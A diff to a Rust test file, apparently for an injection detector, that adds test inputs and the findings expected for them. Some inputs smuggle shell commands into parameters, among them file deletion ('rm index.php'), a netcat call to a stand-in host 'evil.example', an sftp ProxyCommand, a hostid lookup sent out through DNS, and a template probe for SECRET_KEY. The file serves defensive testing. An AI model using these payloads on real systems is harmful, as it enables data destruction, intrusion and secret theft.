@@ -61,6 +61,11 @@ fn what_a_review_found_to_pass_is_found() {
     }
     check_all([
         ("yyyy'-'MM'-'dd'T'HH':'mm", Kind::Parameter, None),
+        (";rm index.php", Kind::Parameter, Some("command.chained")),
+        (";ls *", Kind::Parameter, Some("command.chained")),
+        (";nc evil.example 80|x", Kind::Parameter, Some("command.chained")),
+        ("| rm it | removes | ", Kind::Parameter, None),
+        ("; PS I love you", Kind::Parameter, None),
         (";sftp -oProxyCommand=id x", Kind::Parameter, Some("command.chained")),
         ("x$(hostid).evil.example", Kind::Parameter, Some("command.chained")),
         ("{{ config['SECRET_KEY'] }}", Kind::Json, Some("template.expression")),
